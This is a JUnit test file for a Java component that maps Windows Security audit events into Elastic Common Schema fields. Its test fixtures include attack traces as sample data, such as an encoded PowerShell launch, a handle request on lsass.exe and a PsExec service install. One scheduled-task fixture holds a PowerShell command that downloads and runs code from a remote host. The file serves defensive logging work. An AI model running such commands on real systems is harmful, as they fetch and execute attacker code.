package io.iterdef.kb.decode.ecs.mapping;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.iterdef.kb.decode.WinEvent;
import org.junit.jupiter.api.Test;

import static io.iterdef.kb.decode.ecs.mapping.MappingFixtures.at;
import static io.iterdef.kb.decode.ecs.mapping.MappingFixtures.event;
import static io.iterdef.kb.decode.ecs.mapping.MappingFixtures.map;
import static io.iterdef.kb.decode.ecs.mapping.MappingFixtures.text;
import static io.iterdef.kb.decode.ecs.mapping.MappingFixtures.texts;
import static org.assertj.core.api.Assertions.assertThat;

class SecurityMappingsTest {

	private static final String AUDITING = "Microsoft-Windows-Security-Auditing";

	private static WinEvent security(int id, String... nameValues) {
		WinEvent e = event("Security", AUDITING, id, nameValues);
		e.keywords = "0x8020000000000000";
		return e;
	}

	@Test
	void shouldMapTargetUserLogonTypeAndSourceWhenLogon() {
		ObjectNode ecs = map(security(4624, "SubjectUserSid", "S-1-5-18", "SubjectUserName", "WKS-07$",
				"SubjectDomainName", "CORP", "SubjectLogonId", "0x3e7", "TargetUserSid",
				"S-1-5-21-1111111111-2222222222-3333333333-1104", "TargetUserName", "jdoe", "TargetDomainName", "CORP",
				"TargetLogonId", "0x00000000018A7875", "LogonType", "10", "LogonProcessName", "User32 ",
				"AuthenticationPackageName", "Negotiate", "WorkstationName", "WKS-07", "ProcessId", "0x2d4",
				"ProcessName", "C:\\Windows\\System32\\svchost.exe", "IpAddress", "10.20.4.99", "IpPort", "0"));

		assertThat(texts(ecs, "event.category")).containsExactly("authentication");
		assertThat(texts(ecs, "event.type")).containsExactly("start");
		assertThat(text(ecs, "event.action")).isEqualTo("logged-in");
		assertThat(text(ecs, "event.outcome")).isEqualTo("success");
		assertThat(text(ecs, "user.name")).isEqualTo("jdoe");
		assertThat(text(ecs, "user.domain")).isEqualTo("CORP");
		assertThat(text(ecs, "user.id")).isEqualTo("S-1-5-21-1111111111-2222222222-3333333333-1104");
		assertThat(text(ecs, "winlog.logon.type")).isEqualTo("RemoteInteractive");
		assertThat(text(ecs, "winlog.logon.id")).isEqualTo("0x18a7875");
		assertThat(text(ecs, "winlog.logon.process_name")).isEqualTo("User32");
		assertThat(text(ecs, "winlog.logon.authentication_package")).isEqualTo("Negotiate");
		assertThat(text(ecs, "source.ip")).isEqualTo("10.20.4.99");
		assertThat(at(ecs, "source.port").asInt(-1)).isZero();
		assertThat(text(ecs, "source.domain")).isEqualTo("WKS-07");
		assertThat(at(ecs, "process.pid").asLong()).isEqualTo(0x2d4);
		assertThat(text(ecs, "process.name")).isEqualTo("svchost.exe");
	}

	@Test
	void shouldKeepLoopbackAndDropDashWhenSourceAddress() {
		ObjectNode local = map(security(4624, "TargetUserName", "jdoe", "LogonType", "9", "IpAddress", "::1",
				"IpPort", "0"));
		assertThat(text(local, "source.ip")).isEqualTo("::1");
		assertThat(text(local, "winlog.logon.type")).isEqualTo("NewCredentials");

		ObjectNode none = map(security(4624, "TargetUserName", "jdoe", "IpAddress", "-", "IpPort", "-"));
		assertThat(at(none, "source").isMissingNode()).isTrue();

		ObjectNode mapped = map(security(4624, "TargetUserName", "jdoe", "IpAddress", "::ffff:192.0.2.44"));
		assertThat(text(mapped, "source.ip")).isEqualTo("192.0.2.44");
	}

	@Test
	void shouldSetFailureWhenLogonFailed() {
		WinEvent e = security(4625, "TargetUserName", "Administrator", "TargetDomainName", "WKS-07", "Status",
				"0xc000006d", "FailureReason", "%%2313", "SubStatus", "0xC000006A", "LogonType", "3", "IpAddress",
				"192.168.56.140", "IpPort", "49812");
		e.keywords = "0x8010000000000000";
		ObjectNode ecs = map(e);

		assertThat(text(ecs, "event.outcome")).isEqualTo("failure");
		assertThat(text(ecs, "event.action")).isEqualTo("logon-failed");
		assertThat(text(ecs, "winlog.logon.failure.reason")).isEqualTo("Unknown user name or bad password.");
		assertThat(text(ecs, "winlog.logon.failure.sub_status")).isEqualTo("User logon with misspelled or bad password");
		assertThat(text(ecs, "winlog.logon.type")).isEqualTo("Network");
		assertThat(text(ecs, "user.name")).isEqualTo("Administrator");
		assertThat(at(ecs, "source.port").asInt()).isEqualTo(49812);
	}

	@Test
	void shouldMapProcessAndParentWhenProcessCreation() {
		ObjectNode ecs = map(security(4688, "SubjectUserSid", "S-1-5-21-1-2-3-1104", "SubjectUserName", "jdoe",
				"SubjectDomainName", "CORP", "SubjectLogonId", "0xaf1a3", "NewProcessId", "0x17e8", "NewProcessName",
				"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "TokenElevationType", "%%1938",
				"ProcessId", "0x00001150", "CommandLine", "powershell -noP -sta -w 1 -enc SQBFAFgA", "TargetUserSid",
				"S-1-0-0", "TargetUserName", "-", "TargetDomainName", "-", "ParentProcessName",
				"C:\\Windows\\System32\\wscript.exe", "MandatoryLabel", "S-1-16-8192"));

		assertThat(texts(ecs, "event.category")).containsExactly("process");
		assertThat(texts(ecs, "event.type")).containsExactly("start");
		assertThat(text(ecs, "event.action")).isEqualTo("created-process");
		assertThat(at(ecs, "process.pid").asLong()).isEqualTo(0x17e8);
		assertThat(text(ecs, "process.name")).isEqualTo("powershell.exe");
		assertThat(text(ecs, "process.command_line")).isEqualTo("powershell -noP -sta -w 1 -enc SQBFAFgA");
		assertThat(at(ecs, "process.parent.pid").asLong()).isEqualTo(0x1150);
		assertThat(text(ecs, "process.parent.name")).isEqualTo("wscript.exe");
		assertThat(text(ecs, "user.name")).isEqualTo("jdoe");
		assertThat(at(ecs, "user.effective").isMissingNode()).as("NULL SID and \"-\": no effective user").isTrue();
		assertThat(text(ecs, "winlog.logon.id")).isEqualTo("0xaf1a3");
	}

	@Test
	void shouldClassByObjectTypeWhenHandleToProcessRequested() {
		ObjectNode ecs = map(security(4656, "SubjectUserName", "jdoe", "SubjectDomainName", "CORP", "ObjectServer",
				"Security", "ObjectType", "Process", "ObjectName", "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe",
				"HandleId", "0x0", "AccessMask", "0x1010", "AccessList", "%%4484\r\n\t\t\t\t%%4490\r\n\t\t\t\t",
				"ProcessId", "0xcf4", "ProcessName", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"));

		assertThat(texts(ecs, "event.category")).containsExactly("process");
		assertThat(texts(ecs, "event.type")).containsExactly("access");
		assertThat(text(ecs, "event.action")).isEqualTo("object-handle-requested");
		assertThat(text(ecs, "process.name")).isEqualTo("powershell.exe");
		assertThat(at(ecs, "process.pid").asLong()).isEqualTo(0xcf4);

		ObjectNode key = map(security(4663, "ObjectType", "Key", "ObjectName",
				"\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa", "ProcessName",
				"C:\\Windows\\System32\\reg.exe", "ProcessId", "0x988"));
		assertThat(texts(key, "event.category")).containsExactly("registry");
		assertThat(text(key, "registry.hive")).isEqualTo("HKLM");
		assertThat(text(key, "registry.key")).isEqualTo("SYSTEM\\ControlSet001\\Control\\Lsa");

		ObjectNode file = map(security(4663, "ObjectType", "File", "ObjectName", "C:\\Users\\jdoe\\secrets.kdbx"));
		assertThat(texts(file, "event.category")).containsExactly("file");
		assertThat(text(file, "file.extension")).isEqualTo("kdbx");
	}

	@Test
	void shouldMapMemberAndGroupWhenMemberAdded() {
		ObjectNode ecs = map(security(4728, "MemberName", "CN=Jane Roe,OU=Staff,DC=corp,DC=example", "MemberSid",
				"S-1-5-21-1-2-3-1201", "TargetUserName", "Domain Admins", "TargetDomainName", "CORP", "TargetSid",
				"S-1-5-21-1-2-3-512", "SubjectUserName", "admin1", "SubjectDomainName", "CORP", "SubjectLogonId",
				"0x5a3c1"));

		assertThat(texts(ecs, "event.type")).containsExactly("group", "change");
		assertThat(text(ecs, "event.action")).isEqualTo("added-member-to-group");
		assertThat(text(ecs, "user.name")).isEqualTo("admin1");
		assertThat(text(ecs, "user.target.name")).isEqualTo("Jane Roe");
		assertThat(text(ecs, "user.target.domain")).isEqualTo("corp");
		assertThat(text(ecs, "user.target.id")).isEqualTo("S-1-5-21-1-2-3-1201");
		assertThat(text(ecs, "group.name")).isEqualTo("Domain Admins");
		assertThat(text(ecs, "group.id")).isEqualTo("S-1-5-21-1-2-3-512");
		assertThat(text(ecs, "user.target.group.name")).isEqualTo("Domain Admins");
	}

	@Test
	void shouldMapShareFileWhenShareObjectChecked() {
		ObjectNode ecs = map(security(5145, "SubjectUserName", "jdoe", "ObjectType", "File", "IpAddress",
				"10.20.4.17", "IpPort", "50511", "ShareName", "\\\\*\\ADMIN$", "ShareLocalPath", "\\??\\C:\\Windows",
				"RelativeTargetName", "Temp\\svc.exe", "AccessMask", "0x2"));

		assertThat(texts(ecs, "event.category")).containsExactly("network", "file");
		assertThat(text(ecs, "file.path")).isEqualTo("\\??\\C:\\Windows\\Temp\\svc.exe");
		assertThat(text(ecs, "file.target_path")).isEqualTo("\\\\*\\ADMIN$\\Temp\\svc.exe");
		assertThat(text(ecs, "file.extension")).isEqualTo("exe");
		assertThat(text(ecs, "source.ip")).isEqualTo("10.20.4.17");
	}

	@Test
	void shouldTakeOutcomeFromStatusWhenKerberosAndNtlm() {
		WinEvent tgt = security(4768, "TargetUserName", "jdoe@CORP.EXAMPLE", "TargetDomainName", "CORP.EXAMPLE",
				"Status", "0x12", "IpAddress", "::ffff:10.20.4.17", "IpPort", "51234");
		ObjectNode ecs = map(tgt);
		assertThat(text(ecs, "event.outcome")).isEqualTo("failure");
		assertThat(text(ecs, "user.name")).isEqualTo("jdoe");
		assertThat(text(ecs, "source.ip")).isEqualTo("10.20.4.17");

		ObjectNode ntlm = map(security(4776, "PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
				"TargetUserName", "svc-backup", "Workstation", "WKS-07", "Status", "0x00000000"));
		assertThat(text(ntlm, "event.outcome")).isEqualTo("success");
		assertThat(at(ntlm, "winlog.logon.failure").isMissingNode()).isTrue();
	}

	@Test
	void shouldMapTaskNameAndActionsWhenTaskCreated() {
		ObjectNode ecs = map(security(4698, "SubjectUserName", "jdoe", "TaskName", "\\Updater", "TaskContent",
				"<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
						+ "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n"
						+ "    <URI>\\Updater</URI>\r\n  </RegistrationInfo>\r\n  <Actions Context=\"Author\">\r\n"
						+ "    <Exec>\r\n      <Command>powershell.exe</Command>\r\n"
						+ "      <Arguments>-w hidden -c &quot;iex (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')&quot;</Arguments>\r\n"
						+ "    </Exec>\r\n  </Actions>\r\n</Task>"));

		assertThat(texts(ecs, "event.category")).containsExactly("iam", "configuration");
		assertThat(texts(ecs, "event.type")).containsExactly("creation", "admin");
		assertThat(text(ecs, "winlog.scheduled_task.name")).isEqualTo("\\Updater");
		assertThat(text(ecs, "winlog.scheduled_task.uri")).isEqualTo("\\Updater");
		assertThat(text(ecs, "winlog.scheduled_task.actions.0.type")).isEqualTo("exec");
		assertThat(text(ecs, "winlog.scheduled_task.actions.0.command")).isEqualTo("powershell.exe");
		assertThat(text(ecs, "winlog.scheduled_task.actions.0.arguments")).startsWith("-w hidden -c \"iex");

		ObjectNode encoded = map(security(4698, "TaskName", "\\Updater", "TaskContent",
				"&lt;?xml version=\"1.0\" encoding=\"UTF-16\"?&gt;\r\n&lt;Task version=\"1.2\"&gt;&lt;Actions&gt;"
						+ "&lt;Exec&gt;&lt;Command&gt;cmd.exe&lt;/Command&gt;&lt;/Exec&gt;&lt;/Actions&gt;&lt;/Task&gt;"));
		assertThat(text(encoded, "winlog.scheduled_task.actions.0.command")).isEqualTo("cmd.exe");
	}

	@Test
	void shouldMapSubjectWhenAuditLogClearedAndServiceInstalled() {
		WinEvent cleared = event("Security", "Microsoft-Windows-Eventlog", 1102, "SubjectUserSid",
				"S-1-5-21-1-2-3-500", "SubjectUserName", "Administrator", "SubjectDomainName", "CORP",
				"SubjectLogonId", "0x1d2e4f");
		ObjectNode ecs = map(cleared);
		assertThat(text(ecs, "event.action")).isEqualTo("audit-log-cleared");
		assertThat(text(ecs, "user.name")).isEqualTo("Administrator");
		assertThat(text(ecs, "winlog.logon.id")).isEqualTo("0x1d2e4f");

		ObjectNode service = map(security(4697, "SubjectUserName", "jdoe", "ServiceName", "PSEXESVC",
				"ServiceFileName", "%SystemRoot%\\PSEXESVC.exe", "ServiceType", "0x10", "ServiceStartType", "3"));
		assertThat(text(service, "event.action")).isEqualTo("service-installed");
		assertThat(text(service, "service.name")).isEqualTo("PSEXESVC");
		assertThat(text(service, "service.type")).isEqualTo("Win32 Own Process");
	}

	@Test
	void shouldReadMessageSubjectWhenAuditLogClearedWithoutUserData() {
		WinEvent cleared = event("Security", "Microsoft-Windows-Eventlog", 1102);
		cleared.message = "The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tCORP\\Administrator\r\n"
				+ "\tAccount Name:\tAdministrator\r\n\tDomain Name:\tCORP\r\n\tLogon ID:\t0x3E1C55A";
		ObjectNode ecs = map(cleared);
		assertThat(text(ecs, "event.action")).isEqualTo("audit-log-cleared");
		assertThat(text(ecs, "user.name")).isEqualTo("Administrator");
		assertThat(text(ecs, "user.domain")).isEqualTo("CORP");
		assertThat(at(ecs, "user.id").isMissingNode()).isTrue(); // "Security ID" rendered as a name, not a SID

		WinEvent withSid = event("Security", "Microsoft-Windows-Eventlog", 1102);
		withSid.message = "The audit log was cleared.\nSubject:\n\tSecurity ID:\tS-1-5-21-1-2-3-500\n"
				+ "\tAccount Name:\tAdministrator\n\tDomain Name:\tCORP\n\tLogon ID:\t0x3E1C55A";
		assertThat(text(map(withSid), "user.id")).isEqualTo("S-1-5-21-1-2-3-500");

		WinEvent both = event("Security", "Microsoft-Windows-Eventlog", 1102, "SubjectUserName", "Administrator",
				"SubjectDomainName", "CORP");
		both.message = "Subject:\r\n\tAccount Name:\tsomeone\r\n\tDomain Name:\tOTHER";
		assertThat(text(map(both), "user.name")).isEqualTo("Administrator");
		assertThat(text(map(both), "user.domain")).isEqualTo("CORP");
	}

	@Test
	void shouldLeaveIdsOutWhenSidIsTheNullSid() {
		ObjectNode failed = map(security(4625, "SubjectUserSid", "S-1-5-18", "TargetUserSid", "S-1-0-0",
				"TargetUserName", "Administrator", "TargetDomainName", "WKS-07", "LogonType", "3"));
		assertThat(at(failed, "user.id").isMissingNode()).isTrue();
		assertThat(text(failed, "user.name")).isEqualTo("Administrator");

		ObjectNode process = map(security(4688, "SubjectUserSid", "S-1-5-21-1-2-3-1104", "SubjectUserName", "jdoe",
				"TargetUserSid", "S-1-0-0", "TargetUserName", "-", "TargetDomainName", "-",
				"NewProcessName", "C:\\Windows\\System32\\cmd.exe"));
		assertThat(text(process, "user.id")).isEqualTo("S-1-5-21-1-2-3-1104");
		assertThat(at(process, "user.effective").isMissingNode()).isTrue();

		ObjectNode subjectNull = map(security(4625, "TargetUserSid", "S-1-0-0", "TargetSid", "S-1-0-0"));
		assertThat(at(subjectNull, "user.id").isMissingNode()).isTrue();
	}

}
